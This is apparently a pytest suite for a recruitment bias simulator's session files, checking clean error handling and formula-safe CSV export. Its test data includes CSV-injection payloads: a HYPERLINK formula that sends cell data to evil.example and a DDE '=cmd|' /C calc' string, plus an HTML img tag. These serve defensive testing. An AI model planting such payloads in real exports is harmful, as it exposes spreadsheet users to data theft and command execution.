"""Session files that cannot hurt: damaged, foreign, read-only, unreadable and half-written files end in
one clear line (exit code 2) or a message dialog, found when the file is opened; exports are formula-safe."""

import csv
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from simulator.cli import main
from simulator.core import session as session_module
from simulator.core.decision import Decision
from simulator.core.scenario import dumps, load
from simulator.core.session import SCHEMA_VERSION, Session, SessionError, read

DATA = Path(__file__).parent / "data" / "sessions"
DAMAGED = DATA / "damaged"
ROOT = hasattr(os, "geteuid") and os.geteuid() == 0  # chmod does not keep root out

# What each reproducer must say (None: the file is fine and the command succeeds).
EXPECTED = {
    "dec_candidate_0": "decision 3: candidate must be a whole number from 0 to 999, got 'abc'",
    "dec_candidate_2": "decision 3: candidate must be a whole number from 0 to 999, got 999,999",
    "dec_seconds_10": "decision 3: seconds must be a number of 0 or more (or empty), got 'abc'",
    "flip_0": "the stored scenario is damaged (its bytes are not UTF-8 text)",
    "flip_1": "the session file is damaged",
    "foreign_appid_decisions_view": "the session file is damaged (its decisions table lacks the columns time,",
    "formula": None,
    "meta_scenario_0": "the stored scenario is empty",
    "meta_scenario_5": "stored scenario",
    "meta_scenario_6": "the stored scenario is damaged (nested too deeply to be a scenario)",
    "meta_seed_0": "seed must be a whole number from 0 to 4,294,967,295, got 'abc'",
    "meta_size_1": "size must be a whole number from 10 to 5,000,000, got '-5'",
    "meta_size_2": "size must be a whole number from 10 to 5,000,000, got '0'",
    "meta_size_7": "size must be a whole number from 10 to 5,000,000, got '100000000'",
    "page3_zero": "the session file is damaged",
    "schema_2943": "schema_version must be a whole number of 1 or more, got '0'",
    "trunc_40822": "the session file is damaged",
}


def _copy(source: Path, folder: Path) -> Path:
    """A copy to open: opening may add -wal and -shm files, and the stored reproducers stay untouched."""
    target = folder / source.name
    shutil.copyfile(source, target)
    return target


def _new(path: Path, decisions: int = 3, participant: str = "Ada", size: int = 1000) -> Path:
    """A session file as the window writes it: the scenario's TOML carries the session's seed and size."""
    scenario = load("cv-gap")
    scenario.pool.seed, scenario.pool.size = 1, size
    with Session.create(path, dumps(scenario), 1, size, participant=participant) as s:
        for i in range(decisions):
            s.record(Decision(i, i % 2 == 0, i % 3 == 0, "skills", f"reason {i}", "random", seconds=1.5))
    return path


def _one_line_error(capsys, name: str) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.endswith("\n"), err
    assert "Traceback" not in err and name in err
    return err.strip()


def test_every_reproducer_has_an_expectation():
    """Every stored reproducer is checked below (a file added without an expectation fails here)."""
    assert sorted(p.stem for p in DAMAGED.glob("*.rbsession")) == sorted(EXPECTED)


@pytest.mark.parametrize("action", ["summary", "export"])
@pytest.mark.parametrize("stem", sorted(EXPECTED))
def test_cli_on_reproducer(tmp_path, capsys, stem, action):
    """`recruitsim session summary|export` on each damaged file: one line naming the file and the fault, exit 2."""
    path = _copy(DAMAGED / f"{stem}.rbsession", tmp_path)
    args = ["session", action, str(path)] + (["--csv", str(tmp_path / "out.csv")] if action == "export" else [])
    code = main(args)
    if EXPECTED[stem] is None:
        assert code == 0 and capsys.readouterr().err == ""
        return
    assert code == 2
    err = _one_line_error(capsys, path.name)
    assert err.startswith(f"recruitsim: {path}") and EXPECTED[stem] in err
    assert not (tmp_path / "out.csv").exists()  # nothing half-written


@pytest.mark.parametrize("stem", sorted(s for s, message in EXPECTED.items() if message))
def test_damage_is_found_when_the_file_is_opened(tmp_path, stem):
    """Session.open and read() refuse a damaged file at once, not later in meta(), decisions() or notes()."""
    path = _copy(DAMAGED / f"{stem}.rbsession", tmp_path)
    with pytest.raises(SessionError, match="^" + str(path).replace("\\", "\\\\")) as info:
        Session.open(path)
    assert "\n" not in str(info.value) and EXPECTED[stem] in str(info.value)
    with pytest.raises(SessionError):
        read(path)


def test_stored_size_above_the_limit_is_refused_before_any_pool_is_made(tmp_path, capsys, monkeypatch):
    """A stored size of 100,000,000 is refused by the same 5,000,000 limit as scenario files, before any run."""
    from simulator.core import engine

    def no_run(*args, **kwargs):
        raise AssertionError("a pool was generated")

    monkeypatch.setattr(engine, "run", no_run)
    path = _copy(DAMAGED / "meta_size_7.rbsession", tmp_path)
    assert main(["session", "summary", str(path)]) == 2
    assert "5,000,000" in _one_line_error(capsys, path.name)
    with pytest.raises(SessionError, match="size must be"):
        Session.create(tmp_path / "big.rbsession", dumps(load("cv-gap")), 1, 100_000_000)
    assert not (tmp_path / "big.rbsession").exists()


def _tamper(path: Path, sql: str, values=()) -> None:
    db = sqlite3.connect(path)
    db.execute(sql, values)
    db.commit()
    db.close()


@pytest.mark.parametrize("sql, values, expected", [
    ("UPDATE decisions SET reason_text=? WHERE id=2", (b"\x00\x01",), "decision 2: reason_text must be text, got binary data"),
    ("UPDATE decisions SET reason_text=CAST(? AS TEXT) WHERE id=2", (b"ok \xff\xfe",), "decision 2: reason_text is damaged"),
    ("UPDATE decisions SET first_decision=2 WHERE id=1", (), "decision 1: first_decision must be 0, 1 or empty, got 2"),
    ("UPDATE decisions SET human_decision=0.5 WHERE id=1", (), "decision 1: human_decision must be 0 or 1, got 0.5"),
    ("UPDATE decisions SET seconds=-1 WHERE id=3", (), "decision 3: seconds must be a number of 0 or more"),
    ("UPDATE decisions SET seconds=9e999 WHERE id=3", (), "decision 3: seconds must be a number of 0 or more"),
    ("UPDATE decisions SET candidate=-1 WHERE id=1", (), "decision 1: candidate must be a whole number from 0 to 999, got -1"),
    ("UPDATE decisions SET candidate=? WHERE id=1", ("x\n" * 5000,), "decision 1: candidate must be a whole number"),
    ("UPDATE notes SET text=? WHERE id=1", (b"<img>",), "note 1: text must be text, got binary data"),
    ("UPDATE meta SET value=? WHERE key='participant'", (b"\x00",), "the participant's name must be text"),
    ("UPDATE meta SET value='4294967296' WHERE key='seed'", (), "seed must be a whole number from 0 to 4,294,967,295"),
    ("UPDATE meta SET value=' 1000' WHERE key='size'", (), "size must be a whole number from 10 to 5,000,000, got ' 1000'"),
    ("DELETE FROM meta WHERE key='seed'", (), "the session file is damaged (its seed is missing)"),
    ("UPDATE meta SET value='[pool' WHERE key='scenario'", (), "the stored scenario is damaged (not valid TOML"),
    ("UPDATE meta SET value='abc' WHERE key='schema_version'", (), "schema_version must be a whole number of 1 or more"),
    ("DROP TABLE notes", (), "the session file is damaged (its notes table is missing)"),
    ("PRAGMA application_id = 7", (), "not a Recruitment Bias Simulator session"),
])
def test_tampered_values_are_refused_at_open_on_one_line(tmp_path, sql, values, expected):
    """Each stored field is checked at open: wrong types, ranges, bytes and missing parts give one short line."""
    path = _new(tmp_path / "s.rbsession")
    with Session.open(path) as s:
        s.add_note("a note")
    _tamper(path, sql, values)
    with pytest.raises(SessionError) as info:
        Session.open(path)
    message = str(info.value)
    assert expected in message and message.startswith(str(path))
    assert "\n" not in message and "\r" not in message and len(message) < len(str(path)) + 200


def test_newer_schema_is_still_named_as_newer(tmp_path):
    """A session from a newer version is refused as newer, not as damaged, even read-only."""
    path = _new(tmp_path / "s.rbsession")
    _tamper(path, "UPDATE meta SET value=? WHERE key='schema_version'", (str(SCHEMA_VERSION + 1),))
    with pytest.raises(SessionError, match="newer version"):
        read(path)


def test_old_fixture_reads_read_only_without_traces(tmp_path):
    """The schema-1 fixture reads through read() with every decision, and leaves no -wal/-shm file behind."""
    path = _copy(DATA / "v1" / "taxi-licence.rbsession", tmp_path)
    contents = read(path)
    assert contents.participant == "Fixture" and len(contents.decisions()) == 4
    assert contents.scenario().id == "taxi-licence" and contents.notes()[0][1] == "fixture note"
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]


# ---------------------------------------------------------------------------------------------
# Formula-safe CSV
# ---------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"see")', "+SUM(1+1)", "@cmd", "-2+3", "\tTAB", "\rCR"]


def test_session_export_is_formula_safe(tmp_path, capsys):
    """Every text cell of `session export` that a spreadsheet would run as a formula starts with an apostrophe."""
    path = tmp_path / "f.rbsession"
    with Session.create(path, dumps(load("cv-gap")), 1, 1000, participant="=cmd|' /C calc'!A0") as s:
        for i, text in enumerate(FORMULAS):
            code, queue = FORMULAS[(i + 1) % len(FORMULAS)], FORMULAS[(i + 2) % len(FORMULAS)]
            s.record(Decision(i, True, False, code, text, queue, seconds=2.0))
    out = tmp_path / "f.csv"
    assert main(["session", "export", str(path), "--csv", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("participant", "queue", "reason_code", "reason", "reason_text", "time"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
        assert row["reason_text"].startswith("'") and row["reason_code"].startswith("'")
        assert row["candidate_id"].isdigit() and row["seconds"] == "2.0"  # numbers stay numbers
    assert [row["reason_text"] for row in rows] == ["'" + text.replace("\r", "\n") for text in FORMULAS]
    assert rows[0]["participant"] == "'=cmd|' /C calc'!A0"


def test_stored_formula_reproducer_exports_safely(tmp_path):
    """The reproducer with formulas in participant, reason, code and queue exports with every one defused."""
    path = _copy(DAMAGED / "formula.rbsession", tmp_path)
    out = tmp_path / "f.csv"
    assert main(["session", "export", str(path), "--csv", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"see\")" in cells and "'@cmd" in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_export_never_overwrites_the_session_itself(tmp_path, capsys):
    """`session export s.rbsession --csv s.rbsession` is refused and the session file stays intact."""
    path = _new(tmp_path / "s.rbsession")
    assert main(["session", "export", str(path), "--csv", str(path)]) == 2
    assert "session file itself" in _one_line_error(capsys, path.name)
    assert len(read(path).decisions()) == 3


# ---------------------------------------------------------------------------------------------
# Read-only places, unreadable files
# ---------------------------------------------------------------------------------------------

CRASHED_WRITER = r"""
import os, sys
from simulator.core.decision import Decision
from simulator.core.scenario import dumps, load
from simulator.core.session import Session

s = Session.create(sys.argv[1], dumps(load("cv-gap")), 1, 1000, participant="Ada")
for i in range(7):
    s.record(Decision(i, True, False, "skills", "kept in the WAL", "random"))
os._exit(0)  # killed before closing: the decisions are only in the -wal file
"""


def _read_only(folder: Path) -> None:
    for p in folder.iterdir():
        p.chmod(0o444)
    folder.chmod(0o555)


@pytest.fixture
def restore_modes(tmp_path):
    yield
    for p in [tmp_path, *tmp_path.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)


@pytest.mark.skipif(ROOT or sys.platform == "win32", reason="chmod does not keep root out (and not on Windows)")
@pytest.mark.parametrize("crashed", [False, True])
def test_summary_and_export_in_a_read_only_folder(tmp_path, capsys, restore_modes, crashed):
    """A session in a read-only folder (clean, or with decisions still in its -wal file) summarises and exports."""
    folder = tmp_path / "ro"
    folder.mkdir()
    path = folder / "s.rbsession"
    if crashed:
        subprocess.run([sys.executable, "-c", CRASHED_WRITER, str(path)], check=True)
        assert Path(f"{path}-wal").stat().st_size > 0
    else:
        _new(path, decisions=7)
    before = sorted(p.name for p in folder.iterdir())
    _read_only(folder)
    assert main(["session", "summary", str(path), "--json", "-"]) == 0
    assert json.loads(capsys.readouterr().out)["decisions"] == 7
    assert main(["session", "export", str(path), "--csv", str(tmp_path / "out.csv")]) == 0
    assert sorted(p.name for p in folder.iterdir()) == before
    with Session.open(path) as s:  # the window's open: works, but says it cannot take decisions
        assert s.read_only_reason == "is read-only" and len(s.decisions()) == 7
        with pytest.raises(SessionError, match="is read-only"):
            s.record(Decision(8, True, True, "skills"))


@pytest.mark.skipif(ROOT or sys.platform == "win32", reason="chmod does not keep root out (and not on Windows)")
def test_writable_file_in_read_only_folder_is_named_as_such(tmp_path, restore_modes):
    """A writable file in a read-only folder opens read-only and says 'cannot be written (read-only folder)'."""
    folder = tmp_path / "ro"
    folder.mkdir()
    path = _new(folder / "s.rbsession")
    folder.chmod(0o555)
    with Session.open(path) as s:
        assert s.read_only_reason == "cannot be written (read-only folder)"
        with pytest.raises(SessionError, match=r"cannot be written \(read-only folder\)"):
            s.add_note("x")


@pytest.mark.skipif(ROOT or sys.platform == "win32", reason="chmod does not keep root out (and not on Windows)")
def test_unreadable_file_says_permission_denied(tmp_path, capsys, restore_modes):
    """A session file with mode 000 gives 'cannot be read (permission denied)', not a PermissionError traceback."""
    path = _new(tmp_path / "s.rbsession")
    path.chmod(0)
    assert main(["session", "summary", str(path)]) == 2
    assert "cannot be read (permission denied)" in _one_line_error(capsys, path.name)


def test_read_only_message_paths(tmp_path, capsys, monkeypatch):
    """With writing refused (as chmod does for other users), reading works and writing names the reason."""
    path = _new(tmp_path / "s.rbsession", decisions=4)
    monkeypatch.setattr(session_module, "_not_writable", lambda p: "cannot be written (read-only folder)")
    assert main(["session", "summary", str(path), "--json", "-"]) == 0
    assert json.loads(capsys.readouterr().out)["decisions"] == 4
    with Session.open(path) as s:
        assert s.read_only_reason == "cannot be written (read-only folder)" and len(s.decisions()) == 4
        with pytest.raises(SessionError, match=r"s\.rbsession: cannot be written \(read-only folder\)$"):
            s.record(Decision(5, True, True, "skills"))
    assert len(read(path).decisions()) == 4


def test_permission_denied_message_path(tmp_path, capsys, monkeypatch):
    """An unreadable file (PermissionError on opening, as for mode 000) gives one line with exit code 2."""
    path = _new(tmp_path / "s.rbsession")
    real_open = open

    def refusing_open(file, *args, **kwargs):
        if Path(file) == path:
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(session_module, "open", refusing_open, raising=False)
    assert main(["session", "summary", str(path)]) == 2
    assert "cannot be read (permission denied)" in _one_line_error(capsys, path.name)


def test_folder_and_missing_file(tmp_path, capsys):
    """A folder or a missing file given as the session gives one line each, exit code 2."""
    assert main(["session", "summary", str(tmp_path)]) == 2
    assert "is a folder" in _one_line_error(capsys, tmp_path.name)
    assert main(["session", "export", str(tmp_path / "gone.rbsession"), "--csv", str(tmp_path / "o.csv")]) == 2
    assert "file not found" in _one_line_error(capsys, "gone.rbsession")


# ---------------------------------------------------------------------------------------------
# A full disk when a review starts
# ---------------------------------------------------------------------------------------------

class _FullDisk(sqlite3.Connection):
    """A connection whose first real write fails as on a full disk."""

    def executemany(self, *args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")


def test_full_disk_leaves_no_half_created_file(tmp_path, monkeypatch):
    """A failed create removes what it made; a second try creates the file and never says 'already exists'."""
    path = tmp_path / "s.rbsession"
    monkeypatch.setattr(session_module, "_connect", lambda target, **kw: sqlite3.connect(
        target, isolation_level=None, factory=_FullDisk, **kw))
    with pytest.raises(SessionError, match=r"cannot create the session file \(the disk is full\)$"):
        Session.create(path, dumps(load("cv-gap")), 1, 1000)
    assert list(tmp_path.iterdir()) == []
    monkeypatch.undo()
    _new(path)
    assert len(read(path).decisions()) == 3


RLIMIT_CHILD = r"""
import os, resource, signal, sys
from simulator.core.scenario import dumps, load
from simulator.core.session import Session, SessionError

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing us
path = sys.argv[1]
text = dumps(load("cv-gap"))
soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
resource.setrlimit(resource.RLIMIT_FSIZE, (8192, hard))
try:
    Session.create(path, text, 1, 1000, participant="Ada").close()
    print("created")
except SessionError as exc:
    print("refused:", exc)
resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
print("left:", sorted(os.listdir(os.path.dirname(path))))
Session.create(path, text, 1, 1000, participant="Ada").close()
print("second try: created")
"""


@pytest.mark.skipif(sys.platform == "win32", reason="needs POSIX resource limits")
def test_real_write_failure_leaves_no_file(tmp_path):
    """With the operating system refusing writes past 8 kB (RLIMIT_FSIZE), create fails cleanly and a retry works."""
    path = tmp_path / "s.rbsession"
    env = dict(os.environ, PYTHONDONTWRITEBYTECODE="1")
    out = subprocess.run([sys.executable, "-c", RLIMIT_CHILD, str(path)], capture_output=True, text=True, env=env,
                         cwd=Path(__file__).parent.parent, timeout=120)
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert lines[0].startswith(f"refused: {path}: cannot create the session file (")
    assert lines[1:] == ["left: []", "second try: created"]


# ---------------------------------------------------------------------------------------------
# The window
# ---------------------------------------------------------------------------------------------

@pytest.fixture
def window(show_window, tmp_path):
    from simulator.gui.controller import Controller
    from simulator.gui.main_window import MainWindow

    w = MainWindow(Controller("en", session_dir=tmp_path / "sessions"))
    w.load_scenario("cv-gap")
    w.controller.wait()
    show_window(w)
    yield w
    w.controller.wait()
    w.close()


@pytest.fixture
def dialogs(monkeypatch):
    """Message boxes and the traceback dialog, recorded instead of shown."""
    from PySide6.QtWidgets import QMessageBox

    from simulator.gui import dialogs as dialogs_module
    from simulator.gui import main_window

    shown = {"message": [], "traceback": []}
    monkeypatch.setattr(QMessageBox, "warning", lambda parent, title, text: shown["message"].append(text))
    record = lambda *args, **kwargs: shown["traceback"].append(args)  # noqa: E731
    monkeypatch.setattr(main_window, "show_error", record)
    monkeypatch.setattr(dialogs_module, "show_error", record)
    return shown


def _menu_open(window, monkeypatch, path: Path) -> None:
    """File → Open session…, with the file dialog answering ``path``."""
    from simulator.gui import main_window

    monkeypatch.setattr(main_window.QFileDialog, "getOpenFileName", lambda *a, **k: (str(path), ""))
    action = next(a for a in window._actions if a.data() == "gui.menu.open_session")
    action.trigger()


def test_window_open_session_on_damaged_files_shows_messages(window, dialogs, monkeypatch, tmp_path):
    """File → Open session on each damaged file shows a message naming it (never the traceback dialog),
    and the window keeps its scenario and still opens a good session afterwards."""
    folder = tmp_path / "damaged"
    folder.mkdir()
    damaged = [s for s, message in EXPECTED.items() if message]
    for stem in damaged:
        _menu_open(window, monkeypatch, _copy(DAMAGED / f"{stem}.rbsession", folder))
    assert dialogs["traceback"] == [] and len(dialogs["message"]) == len(damaged)
    for stem, text in zip(damaged, dialogs["message"]):
        assert f"{stem}.rbsession" in text and text.startswith("<p>This session cannot be opened.")
    assert window.controller.scenario.id == "cv-gap" and window.controller.session is None
    good = _new(tmp_path / "good.rbsession", decisions=3)
    _menu_open(window, monkeypatch, good)
    window.controller.wait()
    assert window.controller.session is not None and len(window.controller.session.decisions()) == 3
    assert window.view("review").stack.currentIndex() == 2  # the feedback is shown


def test_window_message_quotes_stored_values_as_text(window, dialogs, tmp_path):
    """A stored value that looks like HTML is shown escaped in the message, never rendered."""
    path = _new(tmp_path / "s.rbsession")
    _tamper(path, "UPDATE decisions SET candidate=? WHERE id=1", ("<img src='file:///x'>",))
    assert not window.open_session(str(path))
    assert "&lt;img src=&#x27;file:///x&#x27;&gt;" in dialogs["message"][0] and "<img" not in dialogs["message"][0]


def test_window_read_only_session_shows_feedback_and_refuses_review(window, dialogs, monkeypatch, tmp_path):
    """A session from a read-only folder opens with its feedback; starting a review or adding a note says why not."""
    from simulator.core.texts import t

    path = _new(tmp_path / "s.rbsession", decisions=3)
    monkeypatch.setattr(session_module, "_not_writable", lambda p: "cannot be written (read-only folder)")
    assert window.open_session(str(path))
    window.controller.wait()
    view = window.view("review")
    assert view.stack.currentIndex() == 2 and dialogs["message"] == []
    view.note.setText("discussed")
    view.add_note()
    assert "cannot be written (read-only folder)" in view.notes_label.text() and view.note.text() == "discussed"
    view.stack.setCurrentIndex(0)
    assert view.session_label.text() == t("gui.session.read_only", "en", path=str(path))
    view.participant.setText("Ada")
    assert not view.start()
    assert "cannot be written (read-only folder)" in view.setup_message.text()
    assert len(read(path).decisions()) == 3 and dialogs["traceback"] == []


def test_window_full_disk_at_review_start(window, dialogs, monkeypatch, tmp_path):
    """Starting a review on a full disk shows why, leaves no session file, and the next try starts the review."""
    view = window.view("review")
    view.participant.setText("Ada")
    view.count.setValue(3)
    monkeypatch.setattr(session_module, "_connect", lambda target, **kw: sqlite3.connect(
        target, isolation_level=None, factory=_FullDisk, **kw))
    assert not view.start()
    assert "the disk is full" in view.setup_message.text() and window.controller.session is None
    assert list((tmp_path / "sessions").iterdir()) == []
    monkeypatch.setattr(session_module, "_connect", lambda target, **kw: sqlite3.connect(
        target, isolation_level=None, **kw))
    assert view.start() and view.setup_message.text() == ""
    assert len(list((tmp_path / "sessions").glob("*.rbsession"))) == 1 and dialogs["traceback"] == []


def test_window_session_folder_that_cannot_be_made(window, dialogs, tmp_path):
    """A session folder that cannot be made (a file stands in its way) is named in the setup message."""
    blocker = tmp_path / "blocker"
    blocker.write_text("not a folder", encoding="utf-8")
    window.controller.session_dir = blocker / "sessions"
    view = window.view("review")
    view.participant.setText("Ada")
    assert not view.start()
    assert str(blocker / "sessions") in view.setup_message.text() and "cannot be made" in view.setup_message.text()
    assert window.controller.session is None and dialogs["traceback"] == []
